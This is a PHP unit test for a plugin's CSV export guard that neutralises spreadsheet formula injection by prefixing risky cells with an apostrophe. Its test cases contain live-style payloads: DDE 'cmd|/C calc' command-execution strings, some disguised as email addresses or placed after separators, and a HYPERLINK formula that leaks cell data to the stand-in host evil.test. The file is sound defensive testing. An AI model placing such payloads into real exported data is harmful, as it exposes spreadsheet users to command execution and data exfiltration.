<?php
/**
 * What a spreadsheet must not calculate.
 *
 * @package SellMyImages
 */

declare( strict_types=1 );

namespace SellMyImages\Tests\Export;

use SellMyImages\Export\FormulaGuard;
use SellMyImages\Export\Separator;
use SellMyImages\Tests\TestCase;

final class FormulaGuardTest extends TestCase {

	/** @return array<string,array{0:string,1:string}> */
	public function cells(): array {
		return array(
			'nothing'                                => array( '', '' ),
			'a title'                                => array( 'Flowers, birds & old stones', 'Flowers, birds & old stones' ),
			'a plus inside an address'               => array( 'nina+prints@x.com', 'nina+prints@x.com' ),
			'an address that begins with a plus'     => array( '+nina@example.com', '+nina@example.com' ),
			'an address that begins with a minus'    => array( '-nina.b@example.co.uk', '-nina.b@example.co.uk' ),
			'a negative number'                      => array( '-4.90', '-4.90' ),
			'a negative number with a comma'         => array( '-4,90', '-4,90' ),
			'a number with a plus'                   => array( '+12', '+12' ),
			'a formula'                              => array( '=1+1', "'=1+1" ),
			'a formula of two signs'                 => array( '+1+1', "'+1+1" ),
			'a minus formula'                        => array( '-2+3', "'-2+3" ),
			'a function of old'                      => array( '@SUM(1,1)', "'@SUM(1,1)" ),
			'a program'                              => array( "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0" ),
			'a link'                                 => array( '=HYPERLINK("http://evil.test?"&A1,"x")', "'=HYPERLINK(\"http://evil.test?\"&A1,\"x\")" ),
			'a program as an address'                => array( "+cmd|'/Ccalc'!A0@x.com", "'+cmd|'/Ccalc'!A0@x.com" ),
			'a program as an address, with a space'  => array( "+cmd|' /C calc'!A0@x.com", "'+cmd|' /C calc'!A0@x.com" ),
			'an address with an equals sign'         => array( '=nina@x.com', "'=nina@x.com" ),
			'an address that is a call'              => array( '-cmd(1)@x.com', "'-cmd(1)@x.com" ),
			'an address and more'                    => array( "+nina@x.com\n=1+1", "+nina@x.com\n'=1+1" ),
			'an address with a line break behind'    => array( "+nina@x.com\n", "+nina@x.com\n" ),
			'a tab in front'                         => array( "\t=1+1", "'\t'=1+1" ),
			'a carriage return in front'             => array( "\r=1+1", "'\r'=1+1" ),
			'a line break in front'                  => array( "\n@x", "'\n'@x" ),
			'only a tab'                             => array( "\t", "'\t" ),
			'spaces in front'                        => array( '  =1+1', "'  =1+1" ),
			'a hard space in front'                  => array( "\u{00A0}=1+1", "'\u{00A0}=1+1" ),
			'a zero byte in front'                   => array( "\0=1+1", "'\0=1+1" ),
			'quotes in front'                        => array( '"=1+1"', "'\"=1+1\"" ),
			'a full-width sign'                      => array( '＝1+1', "'＝1+1" ),
			'a full-width at'                        => array( '＠SUM(1)', "'＠SUM(1)" ),
			'a full-width word is none'              => array( 'ＡＢＣ', 'ＡＢＣ' ),
			'a byte order mark is none'              => array( "\u{FEFF}abc", "\u{FEFF}abc" ),
			'behind a semicolon'                     => array( "rain;=cmd|' /C calc'!A0", "rain;'=cmd|' /C calc'!A0" ),
			'behind a semicolon and quotes'          => array( 'rain;"=1+1"', "rain;'\"=1+1\"" ),
			'behind a tab'                           => array( "rain\t+1+1", "rain\t'+1+1" ),
			'behind a line break'                    => array( "rain\r\n=1+1", "rain\r\n'=1+1" ),
			'a number behind a semicolon'            => array( 'rain;-5', 'rain;-5' ),
			'a comma is quoted, not split'           => array( 'Berlin,-5 degrees', 'Berlin,-5 degrees' ),
			'a dash in a title'                      => array( 'Rain - a study', 'Rain - a study' ),
			'a list'                                 => array( 'Cats; -dogs', 'Cats; -dogs' ),
			'an apostrophe is one already'           => array( "'=1+1", "'=1+1" ),
			'a dash alone'                           => array( '-', "'-" ),
			'an address'                             => array( 'https://x.test/a=b;c', 'https://x.test/a=b;c' ),
		);
	}

	public function test_a_file_without_commas_may_be_split_at_commas(): void {
		foreach ( array( Separator::Semicolon, Separator::Tab ) as $separator ) {
			self::assertSame( "rain,'=1+1;'+2+2,'\"@x\"", FormulaGuard::safe( 'rain,=1+1;+2+2,"@x"', $separator ) );
			self::assertSame( '-4,90', FormulaGuard::safe( '-4,90', $separator ) );
			self::assertSame( 'Cats, -dogs', FormulaGuard::safe( 'Cats, -dogs', $separator ) );
		}
	}

	/** @dataProvider cells */
	public function test_makes_cells_safe_and_leaves_the_others_alone( string $text, string $safe ): void {
		self::assertSame( $safe, FormulaGuard::safe( $text ) );
	}

	public function test_no_cell_of_any_reading_begins_with_a_sign(): void {
		mt_srand( 11 );
		$signs = array( '=', '+', '-', '@', ';', "\t", "\n", "\r", ' ', '"', "'", ',', '|', '!', '(', 'a', 'A1', '1', '.', 'x@y.zz', '＝', "\0" );
		for ( $i = 0; $i < 20000; $i++ ) {
			$text = implode( '', array_map( static fn(): string => $signs[ mt_rand( 0, count( $signs ) - 1 ) ], range( 1, mt_rand( 1, 7 ) ) ) );
			$safe = FormulaGuard::safe( $text );
			self::assertSame( str_replace( "'", '', $text ), str_replace( "'", '', $safe ) );
			foreach ( (array) preg_split( '/[;\t\r\n]/', $safe ) as $cell ) {
				$is_harmless = 1 === preg_match( '/^[+-]?(\d+([.,]\d+)?|[A-Za-z0-9._+-]+@[A-Za-z0-9.-]+)$/', (string) $cell );
				self::assertTrue( $is_harmless || 1 !== preg_match( '/^[\x00-\x1F"]*([=+\-@]|＝)/', (string) $cell ), (string) wp_json_encode( array( $text, $safe ) ) );
			}
		}
	}
}
